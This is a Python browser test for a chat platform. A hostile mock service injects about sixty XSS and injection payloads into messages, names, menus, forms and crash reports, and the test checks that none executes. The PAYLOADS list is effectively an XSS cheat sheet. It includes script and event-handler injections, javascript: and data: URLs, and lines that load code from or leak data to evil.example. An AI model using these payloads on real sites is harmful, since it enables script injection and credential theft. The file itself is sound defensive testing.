"""What people and services write is text, wherever the page shows it: nothing of it runs.

One opening of the page sees all payloads in all places.
"""

from __future__ import annotations

import itertools
import json
from collections.abc import Iterator
from contextlib import contextmanager
from typing import TYPE_CHECKING, Any
from urllib.parse import quote, urlsplit

import pytest

from moobius_trio import (
    Action,
    BottomButton,
    Content,
    Dialog,
    Feature,
    FeatureArgument,
    MenuItem,
    MessageUp,
    MoobiusService,
    Playground,
    StyleItem,
)
from moobius_trio.testing import Local, LocalBand
from moobius_trio.testing.browsing import Desk, Person
from moobius_trio.testing.rooms import open_room

if TYPE_CHECKING:
    from playwright.sync_api import WebSocketRoute

pytestmark = pytest.mark.browser

HURT = "window.__pwned=1"
PAYLOADS = [
    f"<script>{HURT}</script>",
    f"</script><script>{HURT}</script>",
    f"<SCRIPT SRC=data:,{HURT}></SCRIPT>",
    "<script src=https://evil.example/x.js></script>",
    f"<script type=module>{HURT}</script>",
    f"<img src=x onerror={HURT}>",
    f"<img src=x onerror='{HURT}'//",
    f"<svg onload={HURT}>",
    f"<svg><script>{HURT}</script></svg>",
    f"<svg><animate onbegin={HURT} attributeName=x dur=1s>",
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={HURT}>#x"/></svg>',
    f"<body onload={HURT}>",
    f"<input autofocus onfocus={HURT}>",
    f"<details open ontoggle={HURT}>x</details>",
    f"<video><source onerror={HURT}></video>",
    f"<audio src=x onerror={HURT}>",
    f"<iframe src=javascript:{HURT}></iframe>",
    f"<iframe srcdoc='<script>parent.{HURT}</script>'></iframe>",
    f"<object data=javascript:{HURT}></object>",
    "<embed src=https://evil.example/x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/leak)}</style>",
    f"<meta http-equiv=refresh content='0;url=javascript:{HURT}'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    f"<form action=javascript:{HURT}><button>go</button></form>",
    "<form action=https://evil.example/><input name=password></form>",
    f"<a href=javascript:{HURT}>click</a>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={HURT}>",
    f"<template><script>{HURT}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={HURT}>'>",
    f"<!--><img src=x onerror={HURT}>-->",
    f"<![CDATA[<img src=x onerror={HURT}>]]>",
    f"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{HURT}</x:script>",
    f"javascript:{HURT}",
    f"JaVaScRiPt:{HURT}",
    f" javascript:{HURT}",
    f"java\tscript:{HURT}",
    f"java\nscript:{HURT}",
    f"\x01javascript:{HURT}",
    f"javascript://127.0.0.1/%0a{HURT}",
    f"javascript:/*</title></style></textarea>--><svg onload={HURT}>*/",
    f"data:text/html,<script>{HURT}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{HURT}'/>",
    f"vbscript:{HURT}",
    f"blob:https://evil.example/{HURT}",
    "//evil.example/x.png",
    "https://evil.example/x.png?a=<script>",
    "http://127.0.0.1@evil.example/bucket/x.png",
    "/bucket/../page/app.js",
    "\\\\evil.example\\x",
    f'" onmouseover={HURT} x="',
    f"' onfocus={HURT} autofocus x='",
    f"`${{{HURT}}}`",
    f"{{{{constructor.constructor('{HURT}')()}}}}",
    f"${{{HURT}}}<%= {HURT} %>#{{{HURT}}}",
    f"[click](javascript:{HURT})",
    f"![x](javascript:{HURT}) ![x](https://evil.example/x.png)",
    f"[x](data:text/html,<script>{HURT}</script>) <javascript:{HURT}>",
    f'[x]: javascript:{HURT} "<img src=x onerror={HURT}>"\n[x]',
    f"\u202e<script>{HURT}</script>\u2066\x00\ufeff\u2028",
    f"&lt;script&gt;{HURT}&lt;/script&gt; &#60;img src=x onerror={HURT}&#62;",
    f"%3Cscript%3E{HURT}%3C/script%3E",
    f"__proto__ constructor toString hasOwnProperty <img src=x onerror={HURT}>",
]

ADDRESSES = [payload for payload in PAYLOADS if urlsplit(payload.strip()).scheme][::2]
"""What could be the address of the stage's picture."""

NAMES = [payload for payload in PAYLOADS if payload.isprintable() and len(payload) <= 40]
"""What a person can be called."""

WATCH = """
window.__wrong = [];
addEventListener("securitypolicyviolation", (event) => {
  window.__wrong.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`);
});
"""

LOOK = """() => {
  const wrong = [...window.__wrong];
  if (window.__pwned !== undefined) wrong.push("a payload ran");
  for (const element of document.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      if (/^on/i.test(name)) wrong.push(`${element.tagName} has ${name}`);
      const address = /^(href|src|action|data|srcdoc|formaction|xlink:href|poster)$/i.test(name);
      if (!address) continue;
      const { protocol } = new URL(value, location.href);
      if (!/^https?:$/.test(protocol)) wrong.push(`${element.tagName} ${name}=${value}`);
    }
    if (/^(IFRAME|OBJECT|EMBED|BASE|META|SCRIPT|STYLE|LINK|TEMPLATE)$/i.test(element.tagName)
        && element.closest("body") && !element.closest("head"))
      wrong.push(`there is a ${element.outerHTML}`);
  }
  return wrong;
}"""


class Hostile(MoobiusService):
    """Says every payload in every field that the page shows."""

    puppets: list[Any]

    async def on_start(self) -> None:
        self.puppets = []

    async def make_puppets(self, service_id: Any) -> None:
        """Characters that are called so, with such pictures and descriptions."""
        for payload in PAYLOADS:
            made = await self.http_api.create_service_user(
                service_id, payload, payload, payload, payload
            )
            self.puppets.append(made)

    async def on_fetch_user_list(self, action: Action) -> None:
        band = self.bands[action.channel_id]
        people = [*band.members.values(), *self.puppets]
        await band.send_update_user_list(people, action.sender)

    async def on_fetch_features(self, action: Action) -> None:
        keys = [
            Feature(feature_id=f"key{number}{payload}", button_text=payload)
            for number, payload in enumerate(PAYLOADS)
        ]
        asking = Feature(
            feature_id="asking",
            button_text="Asking",
            arguments=[
                FeatureArgument(
                    name=payload,
                    type=("enum", "string")[number % 2],
                    values=[payload],
                    placeholder=payload,
                    optional=True,
                )
                for number, payload in enumerate(PAYLOADS)
            ],
        )
        band, user = self.bands[action.channel_id], action.sender
        await band.send_update_features([*keys, asking], user)
        dialog = Dialog(
            title="\n".join(PAYLOADS),
            bottom_buttons=[BottomButton(id=text, text=text, submit=True) for text in PAYLOADS],
        )
        items = [
            MenuItem(menu_item_id=text, menu_item_text=text, message_subtypes=[kind])
            for text, kind in zip(PAYLOADS, itertools.cycle(("text", "card")), strict=False)
        ]
        form = MenuItem(
            menu_item_id="form", menu_item_text="Formal", arguments=asking.arguments, dialog=dialog
        )
        await band.send_update_menu([*items, form], user)

    async def on_fetch_channel_info(self, action: Action) -> None:
        payload = PAYLOADS[0]
        info = {"channel_name": payload, "channel_description": payload, "context": {}}
        await self.bands[action.channel_id].send_update_channel_info(info)

    async def on_fetch_playground(self, action: Action) -> None:
        band, user = self.bands[action.channel_id], action.sender
        styles = [StyleItem(widget=text, display=text, expand=True) for text in PAYLOADS]
        marks = [
            StyleItem(widget=widget, display="highlight", feature_id="asking", text=text)
            for widget, text in itertools.product(("feature", "playground"), PAYLOADS)
        ]
        await band.send_update_style([*styles, *marks], user)
        items = [Playground(path=text, text=text) for text in (*ADDRESSES, "\n\n".join(PAYLOADS))]
        await band.send_update_playground(items, user)

    async def on_msg_up(self, msg_up: MessageUp) -> None:
        band, user = self.bands[msg_up.channel_id], msg_up.sender
        places = itertools.cycle(("", "/bucket/", "https://evil.example/"))
        kinds = itertools.cycle(("image", "audio", "file", "card", None))
        for puppet, payload in zip(self.puppets, PAYLOADS, strict=True):
            await band.create_message(payload, user, sender=puppet)
            for subtype, place in itertools.islice(zip(kinds, places, strict=False), 2):
                extra = {"filename": payload, "size": payload}
                content = Content(path=place + payload, extra=extra)
                card = Content.card(title=payload, text=payload, link=payload, button=payload)
                await band.send_msg_down(user, subtype or payload, content, puppet)
            await band.send_msg_down(user, "card", card, puppet)


@contextmanager
def hostile_room() -> Iterator[str]:
    """The service on a platform of its own, with all messages said; the platform's URL."""
    service = Hostile()

    async def prepare(local: Local, band: LocalBand) -> None:
        await service.make_puppets(local.handle(service).service_id)
        (alice,) = await band.join("alice")
        await alice.say("go", to=[])

    with open_room(service, bands=NAMES, prepare=prepare) as url:
        yield url


def service_that_crashed(payload: str) -> dict[str, object]:
    """What the platform tells of one, with the payload in all that comes from its code."""
    problem = {"summary": payload, "text": payload, "file": payload, "line": 3}
    return {
        "name": payload,
        "state": "crashed",
        "restarts": 1,
        "restart_seconds": 0.5,
        "problem": problem,
    }


def crashes_too(socket: WebSocketRoute) -> None:
    """Between the page and the platform's list of bands: the service there has crashed."""
    server = socket.connect_to_server()

    def change(message: str | bytes) -> None:
        told = json.loads(message) | {"service": service_that_crashed("\n".join(PAYLOADS))}
        socket.send(json.dumps(told))

    server.on_message(change)


def looks_harmless(person: Person) -> None:
    """Nothing ran, nothing was refused by the policy, and no element came out of a text."""
    assert person.page.evaluate(LOOK) == []


def test_sixty_payloads_do_nothing_anywhere(desk: Desk) -> None:
    """Messages, names, pictures, files, keys and forms, stage, styles, bands, a crash, frames."""
    assert len(set(PAYLOADS)) >= 60
    with hostile_room() as url:
        desk.prepare(WATCH, {"**/local/watch": crashes_too})
        alice = desk.sit_down(url, "alice", builds=True)
        alice.characters.nth(len(PAYLOADS)).wait_for()
        older = alice.page.get_by_role("button", name="Older messages")
        for _ in range(4 * len(PAYLOADS) // 100):
            older.click()
        older.wait_for(state="detached")
        assert set(PAYLOADS) <= set(alice.messages.locator("p").all_text_contents())
        problem = alice.page.get_by_role("alert", name="Service problem")
        assert all(payload in str(problem.text_content()) for payload in PAYLOADS)
        panel = alice.page.get_by_role("complementary", name="Builder's panel")
        assert HURT in str(panel.text_content())
        looks_harmless(alice)
        alice.page.get_by_role("button", name="Asking").dispatch_event("click")
        alice.page.get_by_role("dialog", name="Asking").wait_for()
        looks_harmless(alice)
        alice.page.keyboard.press("Escape")
        alice.messages.last.get_by_role("button", name="Message menu").dispatch_event("click")
        formal = alice.page.get_by_role("menuitem", name="Formal")
        formal.wait_for()
        looks_harmless(alice)
        formal.dispatch_event("click")
        alice.page.get_by_role("dialog").get_by_role("button").nth(len(PAYLOADS) - 1).wait_for()
        looks_harmless(alice)
        alice.page.keyboard.press("Escape")
        alice.page.get_by_role("button", name="Agents").dispatch_event("click")
        alice.page.get_by_role("dialog").get_by_text(PAYLOADS[0], exact=True).first.wait_for()
        looks_harmless(alice)
        alice.page.keyboard.press("Escape")
        other = desk.sit_down(url, f"{quote(NAMES[1])}&band={quote(NAMES[0])}")
        other.page.get_by_role("heading", name=NAMES[0]).wait_for()
        looks_harmless(other)
        desk.close()
    # What is not in the bucket is looked for there once.
    desk.wrong = [line for line in desk.wrong if "status of 404" not in line]
